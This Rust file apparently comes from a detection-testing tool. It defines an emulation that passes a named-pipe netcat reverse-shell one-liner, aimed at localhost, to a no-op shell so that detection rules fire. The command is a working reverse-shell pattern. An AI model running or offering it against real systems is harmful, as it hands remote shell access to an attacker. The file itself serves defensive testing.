//! The line for versions of netcat that start no program, given to a shell that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "pipe-shell",
    title: "Shell tied to netcat by a named pipe",
    technique: "T1059.004",
    technique_v18: None,
    needs: &[],
    rules: &["Shell tied to netcat by a named pipe", "Netcat/Socat Remote Code Execution on Host"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend(
        "sh",
        &["-c", "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 127.0.0.1 9 >/tmp/f"],
    )
}
